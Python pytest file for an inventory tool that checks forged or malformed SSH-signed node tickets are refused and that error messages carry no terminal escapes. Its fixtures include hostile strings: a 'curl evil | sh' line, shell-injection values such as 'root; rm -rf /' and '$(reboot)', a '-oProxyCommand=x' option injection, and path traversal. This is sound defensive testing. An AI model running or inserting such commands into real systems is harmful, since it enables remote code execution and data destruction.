"""Malicious tickets: each is refused with its reason, and nothing in it reaches a terminal as it is."""

import base64
import json
import struct
import subprocess
from collections.abc import Callable
from dataclasses import replace
from datetime import timedelta
from pathlib import Path

import pytest

from inventory.canonical import dumps
from inventory.console import printable
from inventory.errors import MusterError, Refused
from inventory.model import Fabric, HostKey
from inventory.signature import MAX_BYTES, sign
from inventory.ticket import RECEIPT_NAMESPACE, peek_ticket, read_ticket, sign_ticket
from tests.inventory.kit import NOW, claims_of, forged, keygen, signed_line, signers_line, ticket

Forge = Callable[[Path], str]


@pytest.fixture(scope="module")
def infra(tmp_path_factory: pytest.TempPathFactory) -> Path:
    return keygen(tmp_path_factory.mktemp("keys"), "infra")


@pytest.fixture
def signers(tmp_path: Path, infra: Path) -> Path:
    file = tmp_path / "allowed_signers"
    file.write_text(signers_line(infra))
    return file


def line_of(key: Path) -> str:
    return sign_ticket(ticket(), key_file=key).partition("\n")[0]


def blob(*parts: bytes) -> str:
    return base64.b64encode(b"".join(struct.pack(">I", len(part)) + part for part in parts)).decode()


def rsa(bits: int) -> dict[str, str]:
    modulus = b"\x00" + (1 << (bits - 1)).to_bytes(bits // 8, "big")
    return {"type": "ssh-rsa", "base64": blob(b"ssh-rsa", b"\x01\x00\x01", modulus)}


def key(kind: str, *parts: bytes) -> dict[str, str]:
    return {"type": kind, "base64": blob(kind.encode(), *parts)}


def two_signatures(infra: Path) -> str:
    text = sign_ticket(ticket(), key_file=infra)
    return text + text.partition("\n")[2]


FORMS: dict[str, tuple[Forge, str]] = {
    "signed as a receipt": (
        lambda k: sign(line_of(k), key_file=k, namespace=RECEIPT_NAMESPACE),
        "does not hold",
    ),
    "two signatures": (two_signatures, "it has 2 signatures"),
    "something after it": (lambda k: sign_ticket(ticket(), key_file=k) + "curl evil | sh\n", "follows it"),
    "CR LF": (lambda k: sign_ticket(ticket(), key_file=k).replace("\n", "\r\n"), "not whole"),
    "a second line of JSON": (lambda k: "{}\n" + sign_ticket(ticket(), key_file=k), "one line of JSON"),
    "a byte order mark": (lambda k: "\ufeff" + sign_ticket(ticket(), key_file=k), "does not hold"),
    "a signature cut short": (lambda k: sign_ticket(ticket(), key_file=k)[:-60], "not whole"),
    "64 KiB and more": (lambda k: signed_line(k, "x" * MAX_BYTES), f"larger than {MAX_BYTES}"),
    "many small lines": (lambda k: line_of(k) + "\n" * MAX_BYTES, f"larger than {MAX_BYTES}"),
    "not JSON": (lambda k: signed_line(k, "[1, 2"), "not JSON"),
    "a list": (lambda k: signed_line(k, "[]"), "Input should be an object"),
    "a text": (lambda k: signed_line(k, '"gpu-01"'), "Input should be an object"),
    "a key twice": (lambda k: signed_line(k, '{"node":"gpu-02",' + line_of(k)[1:]), "'node' is there twice"),
    "a blank between tokens": (lambda k: signed_line(k, json.dumps(claims_of(line_of(k)))), "not canonical"),
    "keys in another order": (
        lambda k: signed_line(k, json.dumps(dict(reversed(claims_of(line_of(k)).items())), separators=(",", ":"))),
        "not canonical",
    ),
    "a needless escape": (lambda k: signed_line(k, line_of(k).replace("gpu-01", "gpu\\u002d01")), "not canonical"),
    "1e2 for 100": (lambda k: signed_line(k, line_of(k).replace('"vmid":5000', '"vmid":5e3')), "not canonical"),
    "a time of another form": (lambda k: forged(k, made_at="2026-11-30T12:00:00+00:00"), "as we write it"),
    "a time as a number": (lambda k: forged(k, made_at=1_796_040_000), "made_at"),
    "NaN": (lambda k: signed_line(k, line_of(k).replace('"vmid":5000', '"vmid":NaN')), "NaN is no number"),
    "infinity": (lambda k: signed_line(k, line_of(k).replace(":5000", ":1e999")), "a number is not between"),
    "a number of 9000 digits": (
        lambda k: signed_line(k, line_of(k).replace(":5000", ":" + "9" * 9000)),
        "Exceeds the limit",
    ),
    "nested 9 deep": (lambda k: forged(k, nonce=[[[[[[[[["a"]]]]]]]]]), "nested deeper than 8"),
    "nested 20000 deep": (lambda k: signed_line(k, "[" * 20_000 + "]" * 20_000), "nested deeper than 8"),
    "UTF-8 beyond ASCII": (lambda k: signed_line(k, line_of(k).replace("pve.example", "pv\u0435.example")), "U+0435"),
    "a NUL": (lambda k: signed_line(k, line_of(k).replace("pve.example", "pve\x00")), "U+0000"),
    "an absent key": (
        lambda k: signed_line(k, dumps({n: v for n, v in claims_of(line_of(k)).items() if n != "nonce"})),
        "nonce: Field required",
    ),
    "an absent key that has a default": (
        lambda k: signed_line(k, dumps({n: v for n, v in claims_of(line_of(k)).items() if n != "supersedes"})),
        "a key is missing",
    ),
}  # fmt: skip

CLAIMS: list[tuple[str, object, str]] = [
    ("surprise", True, "surprise: "),
    ("\u202egnp", True, "not printable ASCII"),
    ("schema", 2, "schema: "),
    ("schema", "1", "schema: "),
    ("id", "AB12", "lower-case hex"),
    ("id", "", "lower-case hex"),
    ("id", "a" * 129, "lower-case hex"),
    ("id", 7, "id: Input should be a valid string"),
    ("node", "../../etc", "cannot name a node"),
    ("node", "GPU-01", "cannot name a node"),
    ("node", "gpu_01", "cannot name a node"),
    ("node", "-oProxyCommand=x", "cannot name a node"),
    ("node", "gpu-01.evil.example", "cannot name a node"),
    ("node", "a" * 64, "cannot name a node"),
    ("node", "gpu\u2010" + "01", "not printable ASCII"),
    ("node", "gp\u03c5-01", "not printable ASCII"),
    ("node", "gpu-01\u200b", "not printable ASCII"),
    ("user", "-oProxyCommand=x", "not a user name"),
    ("user", "root; rm -rf /", "not a user name"),
    ("user", "$(reboot)", "not a user name"),
    ("site", "", "empty"),
    ("site", " pve", "blank at an end"),
    ("site", "x" * 256, "too long"),
    ("vmid", "5000", "vmid: Input should be a valid integer"),
    ("vmid", True, "vmid: Input should be a valid integer"),
    ("vmid", -5000, "not between 100"),
    ("vmid", 99, "not between 100"),
    ("vmid", 10**12, "not between 100"),
    ("vmid", 2**60, "a number is not between"),
    ("vmid", 5000.5, "vmid: "),
    ("ssh_port", 0, "not between 1"),
    ("ssh_port", -22, "not between 1"),
    ("ssh_port", 65536, "not between 1"),
    ("vm_uuid", "0E1A2B3C-0000-4000-8000-000000000001", "lower-case uuid"),
    ("vm_uuid", "00000000-0000-0000-0000-000000000000", "no machine's uuid"),
    ("vm_uuid", None, "vm_uuid: "),
    ("machine_id", "$(reboot)", "lower-case hex"),
    ("macs", ["BC:24:11:00:00:01"], "MAC address"),
    ("macs", ["bc:24:11:00:00:01"] * 2, "there twice"),
    ("macs", [f"bc:24:11:00:00:{n:02x}" for n in range(65)], "64 are the most"),
    ("macs", "bc:24:11:00:00:01", "macs: "),
    *(
        ("address", {"ip": ip, "prefix": 24, "source": "static"}, fault)
        for ip, fault in [
            ("0.0.0.0", "no node's address"),  # noqa: S104 - one that must be refused
            ("224.0.0.1", "no node's address"),
            ("255.255.255.255", "no node's address"),
            ("169.254.169.254", "no node's address"),
            ("fe80::1", "no node's address"),
            ("fe80::1%eth0", "zone"),
            ("ff02::1", "no node's address"),
            ("::", "no node's address"),
            ("::ffff:10.0.0.1", "should be written"),
            ("127.1", "address"),
            ("010.0.0.1", "address"),
            ("127.20.0.5; ls", "address"),
            ("evil.example", "address"),
            ("2001:DB8::1", "should be written"),
        ]
    ),
    ("address", {"ip": "10.0.0.1", "prefix": 33, "source": "static"}, "prefix 33"),
    ("address", {"ip": "10.0.0.1", "prefix": 24, "source": "guessed"}, "address.source"),
    ("address", {"ip": "10.0.0.1", "prefix": 24, "source": "static", "via": "evil"}, "address.via"),
    ("host_keys", [], "pins no SSH host key"),
    ("host_keys", [{"type": "ssh-ed25519", "base64": "AAAA"}], "not of type"),
    ("host_keys", [{"type": "ssh-ed25519", "base64": "!"}], "not base64"),
    ("host_keys", [key("ssh-ed25519", b"short")], "ssh-ed25519 host key is broken"),
    ("host_keys", [key("ssh-dss", b"p", b"q", b"g", b"y")], "of type ssh-dss"),
    ("host_keys", [key("ssh-ed25519-cert-v01@openssh.com", b"nonce")], "of type ssh-ed25519-cert"),
    ("host_keys", [key("sk-ssh-ed25519@openssh.com", b"x" * 32, b"ssh:")], "of type sk-ssh"),
    ("host_keys", [key("ecdsa-sha2-nistp256", b"nistp384", b"x" * 65)], "nistp256 host key is broken"),
    ("host_keys", [rsa(1024)], "has 1024 bits"),
    ("host_keys", [rsa(32768)], "has 32768 bits"),
    ("host_keys", [key("ssh-rsa", b"\x01")], "ssh-rsa host key is broken"),
    ("host_keys", [rsa(2048), rsa(2048)], "there twice"),
    ("made_by", "someone-else@lab", "its key is that of operator@lab"),
    ("made_by", "operator", "its key is that of operator@lab"),
    ("made_at", "2026-11-30T12:00:00+09:00", "not in UTC"),
    ("made_at", "2026-11-30T12:00:00", "not in UTC"),
    ("made_at", "2026-11-30T12:06:00Z", "clocks is wrong"),
    ("made_at", "2026-11-01T12:00:00Z", "believes tickets for"),
    ("expires", "2026-11-01T00:00:00Z", "expires before it was made"),
    ("expires", "2026-11-30T12:00:00Z", "expires before it was made"),
    ("expires", "soon", "expires: "),
    ("profile_hash", "../", "lower-case hex"),
    ("supersedes", ["ab12"], "supersedes itself"),
    ("supersedes", ["x"], "lower-case hex"),
    ("supersedes", [f"{n:02x}" for n in range(65)], "64 are the most"),
]  # fmt: skip


def bad_fabric(**other: object) -> dict[str, object]:
    return {
        "name": "fabric0", "interface": None, "mac": None, "mtu": None, "rate_gbps": None, "address": None, **other
    }  # fmt: skip


FABRICS = [
    ({"name": "x y"}, "cannot name a fabric"),
    ({"name": ""}, "cannot name a fabric"),
    ({"interface": "eth0; reboot"}, "cannot name an interface"),
    ({"interface": "a" * 16}, "cannot name an interface"),
    ({"mac": "no"}, "MAC address"),
    ({"mtu": -1}, "mtu -1"),
    ({"mtu": 10**6}, "mtu 1000000"),
    ({"rate_gbps": -400}, "rate_gbps"),
    ({"rate_gbps": 0}, "rate_gbps"),
    ({"address": "10.0.0.1/33"}, "address with its prefix"),
    ({"address": "$(id)"}, "address with its prefix"),
    ({"gateway": "10.0.0.1"}, "gateway"),
]


def refusal(text: str, signers: Path) -> str:
    with pytest.raises(Refused) as refused:
        read_ticket(text, signers=signers, now=NOW, max_age=timedelta(hours=72))
    return refused.value.why


def harmless(error_text: str) -> bool:
    return all(printable(line) == line and line.isascii() for line in error_text.splitlines())


@pytest.mark.parametrize("name", FORMS)
def test_a_text_of_another_form_is_refused(infra: Path, signers: Path, name: str) -> None:
    forge, reason = FORMS[name]
    why = refusal(forge(infra), signers)

    assert reason in why
    assert harmless(why)


@pytest.mark.parametrize(("claim", "value", "reason"), CLAIMS)
def test_a_well_signed_claim_of_another_form_is_refused(
    infra: Path, signers: Path, claim: str, value: object, reason: str
) -> None:
    why = refusal(forged(infra, **{claim: value}), signers)

    assert reason in why
    assert harmless(why)


@pytest.mark.parametrize(("other", "reason"), FABRICS)
def test_a_fabric_of_another_form_is_refused(
    infra: Path, signers: Path, other: dict[str, object], reason: str
) -> None:
    assert reason in refusal(forged(infra, fabrics=[bad_fabric(**other)]), signers)


EVIL = ("\x1b[2J", "\x1b]0;t\x07", "\n", "\r", "\t", "\x7f", "\x9b1m", "\u202e", "\u2066", "\u2028")


@pytest.mark.parametrize("evil", EVIL)
def test_no_string_of_a_ticket_carries_what_could_steer_a_terminal(
    infra: Path, signers: Path, evil: str
) -> None:
    plain = claims_of(sign_ticket(ticket(), key_file=infra))
    texts = [name for name, value in plain.items() if isinstance(value, str)]
    assert len(texts) > 10
    for name in texts:
        with pytest.raises(Refused) as refused:
            peek_ticket(
                json.dumps({**plain, name: f"{plain[name]}{evil}"}, sort_keys=True, separators=(",", ":"))
            )
        assert harmless(str(refused.value))
    assert "not printable ASCII" in refusal(forged(infra, site=f"pve{evil}"), signers)


def test_every_fault_is_told_at_once(infra: Path, signers: Path) -> None:
    why = refusal(
        forged(infra, node="GPU", vmid=-1, ssh_port=0, user="-x", vm_uuid="no", nonce="XX"), signers
    )

    assert [line.partition(":")[0] for line in why.splitlines()] == [
        "node", "vmid", "vm_uuid", "ssh_port", "user", "nonce",
    ]  # fmt: skip


def test_a_key_that_nobody_knows_is_refused(tmp_path: Path, signers: Path) -> None:
    assert "its signer is not in" in refusal(forged(keygen(tmp_path, "mallory")), signers)


@pytest.mark.parametrize(
    ("options", "reason"),
    [
        ('valid-before="20261130115959Z"', "key has expired"),
        ('valid-after="20261130120001Z"', "not yet valid"),
        ('namespaces="git"', "not permitted"),
        ("cert-authority", "its signer is not in"),
    ],
)
def test_a_signer_whose_line_does_not_allow_it_is_refused(
    infra: Path, signers: Path, options: str, reason: str
) -> None:
    signers.write_text(signers_line(infra, options=options))

    assert reason in refusal(forged(infra), signers)


def test_a_signer_within_its_times_is_believed_at_that_time(infra: Path, signers: Path) -> None:
    signers.write_text(
        signers_line(infra, options='valid-after="20261130120000Z",valid-before="20261130120100Z"')
    )

    assert read_ticket(forged(infra), signers=signers, now=NOW).signer == "operator@lab"
    assert "key has expired" in refusal_at(forged(infra), signers, minutes=5)


def refusal_at(text: str, signers: Path, *, minutes: int) -> str:
    with pytest.raises(Refused) as refused:
        read_ticket(text, signers=signers, now=NOW + timedelta(minutes=minutes))
    return refused.value.why


@pytest.mark.parametrize("form", ["krl", "keys"])
def test_a_revoked_key_is_refused_by_name_and_another_is_not(
    infra: Path, signers: Path, tmp_path: Path, form: str
) -> None:
    other = keygen(tmp_path, "other")
    revoked = tmp_path / "revoked"
    if form == "krl":
        command = ["ssh-keygen", "-k", "-q", "-f", str(revoked), str(infra.with_suffix(".pub"))]
        subprocess.run(command, check=True, timeout=600)
    else:
        revoked.write_text(infra.with_suffix(".pub").read_text())
    signers.write_text(signers_line(infra) + signers_line(other, name="second@lab"))

    with pytest.raises(Refused, match="the key of operator@lab is revoked"):
        read_ticket(forged(infra), signers=signers, now=NOW, revoked=revoked)
    text = sign_ticket(replace(ticket(), made_by="second@lab"), key_file=other)
    assert read_ticket(text, signers=signers, now=NOW, revoked=revoked).signer == "second@lab"


def test_an_absent_file_of_revoked_keys_is_no_empty_one(infra: Path, signers: Path, tmp_path: Path) -> None:
    with pytest.raises(MusterError, match="revoked keys"):
        read_ticket(forged(infra), signers=signers, now=NOW, revoked=tmp_path / "none")


@pytest.mark.parametrize("name", ["*@lab", "operator@la?", "!operator@lab"])
def test_a_pattern_in_the_signers_file_names_nobody(infra: Path, signers: Path, name: str) -> None:
    signers.write_text(signers_line(infra, name=name))

    with pytest.raises(Refused):
        read_ticket(forged(infra), signers=signers, now=NOW)


def test_one_who_signs_under_two_names_is_called_by_the_one_the_ticket_says(
    infra: Path, signers: Path
) -> None:
    signers.write_text(signers_line(infra, name="first@lab,operator@lab"))

    assert read_ticket(forged(infra), signers=signers, now=NOW).signer == "operator@lab"
    assert read_ticket(forged(infra, made_by=None), signers=signers, now=NOW).signer == "first@lab"


def test_what_a_ticket_may_say_is_written_as_rfc_8785_writes_it(infra: Path, signers: Path) -> None:
    fabrics = (Fabric("fabric0", rate_gbps=400.0, mtu=9000), Fabric("fabric1", rate_gbps=12.5))
    text = sign_ticket(replace(ticket(), fabrics=fabrics), key_file=infra)

    assert '"rate_gbps":400}' in text
    assert '"rate_gbps":12.5}' in text
    assert read_ticket(text, signers=signers, now=NOW).ticket.fabrics == fabrics


@pytest.mark.parametrize("kind", ["ed25519", "ecdsa", "rsa"])
def test_every_kind_of_host_key_that_openssh_makes_can_be_pinned(
    infra: Path, signers: Path, tmp_path: Path, kind: str
) -> None:
    file = tmp_path / kind
    subprocess.run(["ssh-keygen", "-q", "-t", kind, "-N", "", "-f", str(file)], check=True, timeout=600)
    pin = HostKey.from_line(file.with_suffix(".pub").read_text())
    text = sign_ticket(replace(ticket(), host_keys=(pin,)), key_file=infra)

    assert read_ticket(text, signers=signers, now=NOW).ticket.host_keys == (pin,)
